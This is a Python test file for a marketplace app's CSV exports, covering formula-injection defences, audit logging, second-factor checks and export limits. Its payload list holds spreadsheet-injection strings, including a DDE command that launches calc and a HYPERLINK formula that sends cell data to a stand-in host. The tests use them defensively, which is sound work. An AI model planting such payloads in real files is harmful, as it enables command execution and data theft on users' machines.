"""Files: exactly what is on screen, safe in a spreadsheet, logged, stoppable."""

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection as database
from django.test.utils import CaptureQueriesContext

from marketplaces.models import Connection, Order
from plugseller import exports
from plugseller.accounts.roles import Role
from plugseller.accounts.services import join
from plugseller.audit.models import Entry
from plugseller.exports import Column, csv_lines, disarmed
from tests.conftest import signed_in
from tests.marketplaces.console import rows
from tests.marketplaces.console.conftest import World, whole

UTC = ZoneInfo("UTC")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.test?x="&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\x00=1+1",
    "=\x001+1",
    '"=1+1',
    '";=1+1',
    "',=1+1",
    "a\r\n=1+1",
    "a,=1+1",
    'a","=1+1',
    "=1+1;b",
    "+🧦",
    "@",
    "-",
]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")
HIDDEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u00a0 "
TYPED = {"Total", "Price", "Problems"}  # numbers of ours; a minus there is a number


def read(lines: Iterator[bytes]) -> list[dict[str, str]]:
    """The file as a strict reader of CSV reads it."""
    text = b"".join(lines).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), strict=True))


def fetch(world: World, path: str) -> list[dict[str, str]]:
    response = signed_in(world.cast.alice).get(path)
    assert response.status_code == 200, path
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return read(iter([whole(response)]))


def hostile(connection: Connection, payload: str) -> None:
    """The payload in every text a marketplace can send."""
    text = payload.replace("\x00", "")  # no database of ours keeps NUL
    short = text[:20]
    rows.order(
        connection,
        text,
        skus=(text,),
        status=text[:40],
        channel=short,
        currency=text[:3],
    )
    rows.listing(
        connection,
        text,
        title=text,
        status=text,
        condition=text[:40],
        channel=short,
        product_id=text,
    )
    rows.stock(connection, text, location=text, channel=short)
    rows.price(connection, text, currency=text[:3])
    connection.markets.update(country=text[:2], name=text)
    connection.label = text
    connection.save(update_fields=["label"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_any_file_can_be_a_formula(world: World, payload: str) -> None:
    rows.connect(world.cast.north, account="ASECOND", label=payload.replace("\x00", ""))
    hostile(world.north, payload)
    for name in ("orders", "listings", "inventory", "prices"):
        told = fetch(world, f"/s/north/{name}.csv?gone=too")
        assert len(told) == 2
        for row in told:
            for head, cell in row.items():
                assert head is not None, "a cell too many: the quoting broke"
                seen = cell.lstrip(HIDDEN)
                assert not seen.startswith(TRIGGERS), (name, head, cell)


def test_a_text_is_changed_only_where_it_must_be() -> None:
    for plain in ("", "MUG/BLUE 11", "0001234", "a=b", "5-3", "'quoted'", "Tüte, groß"):
        assert disarmed(plain) == plain
    assert disarmed("=1") == "'=1"
    assert disarmed("\x00=1") == "'=1"


def test_numbers_and_times_stay_what_they_are() -> None:
    columns = (
        Column[Decimal]("Price", lambda price: price),
        Column[Decimal]("Pieces", lambda _: -3),
        Column[Decimal]("Missing", lambda _: None),
        Column[Decimal]("At", lambda _: rows.NOW, timed=True),
    )
    zone = ZoneInfo("Asia/Tokyo")
    (row,) = read(csv_lines(columns, [Decimal("-12.5000")], zone))
    local = rows.NOW.astimezone(zone).strftime("%Y-%m-%d %H:%M:%S")
    assert row == {
        "Price": "-12.5000",
        "Pieces": "-3",
        "Missing": "",
        "At (Asia/Tokyo)": local,
    }


def test_a_file_has_all_pages_of_the_filtered_list_in_its_order(world: World) -> None:
    rows.many_orders(world.north, 2_350)  # more than two batches, ties at their ends
    told = fetch(world, "/s/north/orders.csv?status=SHIPPED&sort=oldest&size=25")
    numbers = [row["Order number"] for row in told]
    assert len(numbers) == len(set(numbers)) == 785
    assert {row["Status"] for row in told} == {"Shipped"}
    placed = [row["Placed (UTC)"] for row in told]
    assert placed == sorted(placed)


def test_queries_of_a_file_grow_with_batches_not_with_rows(world: World) -> None:
    def asked(count: int) -> int:
        rows.many_orders(world.north, count)
        with CaptureQueriesContext(database) as queries:
            fetch(world, "/s/north/orders.csv")
        return len(queries)

    fetch(world, "/s/north/orders.csv")  # data keys and the like are read once
    few = asked(10)
    Order.objects.of_seller(world.cast.north).delete()
    assert asked(900) == few


def test_the_file_is_logged_with_its_rows_and_filters_but_no_value(
    world: World,
) -> None:
    fetch(world, "/s/north/orders.csv?q=111-NORTHERN&channel=seller")
    entry = Entry.objects.get(event="read.orders.export")
    assert entry.actor_id == world.cast.alice.pk
    assert entry.seller_id == world.cast.north.pk
    assert entry.rows == 1
    assert entry.additional_data["filters"] == ["channel", "q"]
    assert "NORTHERN" not in str(entry.additional_data)


@pytest.mark.parametrize("name", ["orders", "listings", "inventory", "prices"])
def test_a_file_asks_for_the_second_factor_again(world: World, name: str) -> None:
    unsure = signed_in(world.cast.alice, confirmed=False)
    asked = unsure.get(world.paths[f"{name}_file"])
    assert asked["Location"].startswith("/account/confirm/code")
    assert not Entry.objects.filter(event=f"read.{name}.export").exists()


def test_a_refused_file_is_not_logged_as_read(world: World) -> None:
    signed_in(world.cast.bob).get("/s/north/orders.csv")
    signed_in(world.cast.charlie).get("/s/north/orders.csv")
    assert not Entry.objects.filter(event__startswith="read.").exists()


def test_a_file_under_way_stops_when_the_right_ends(world: World) -> None:
    rows.many_orders(world.north, 2_350)
    response = signed_in(world.ann).get("/s/north/orders.csv")
    chunks: Iterator[bytes] = iter(response.streaming_content)  # type: ignore[attr-defined]  # a streamed answer
    assert sum(next(chunks).count(b"\r\n") for _ in range(6)) == 501
    join(actor=None, seller=world.cast.north, user=world.ann, role=Role.VIEWER)
    with pytest.raises(PermissionDenied):
        list(chunks)


def test_a_list_too_long_for_one_file_is_refused_whole(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows.many_orders(world.north, 20)
    monkeypatch.setattr(exports, "MOST_ROWS", 15)
    client = signed_in(world.cast.alice)
    response = client.get("/s/north/orders.csv?channel=seller", follow=True)
    text = response.content.decode()
    assert "Nothing was exported. Narrow it" in text
    assert response.redirect_chain == [("/s/north/orders?channel=seller", 302)]


def test_the_name_of_the_file_says_whose_and_when(world: World) -> None:
    response = signed_in(world.cast.alice).get("/s/north/orders.csv")
    day = rows.NOW.date().isoformat()
    expected = f'attachment; filename="north-orders-{day}.csv"'
    assert response["Content-Disposition"] == expected


def test_a_file_uses_the_words_of_the_page(world: World) -> None:
    client = signed_in(world.cast.alice)
    rows.order(world.north, "111-FBA", channel="marketplace")
    rows.listing(world.north, "FBA", channel="marketplace", condition="used_good")
    for name, ours in (("orders", '"111-FBA"'), ("listings", '"Used good"')):
        text = whole(client.get(f"/s/north/{name}.csv")).decode()
        (line,) = [line for line in text.splitlines() if ours in line]
        assert '"Amazon"' in line.split('"Amazon US"')[1]
        assert "used_good" not in text
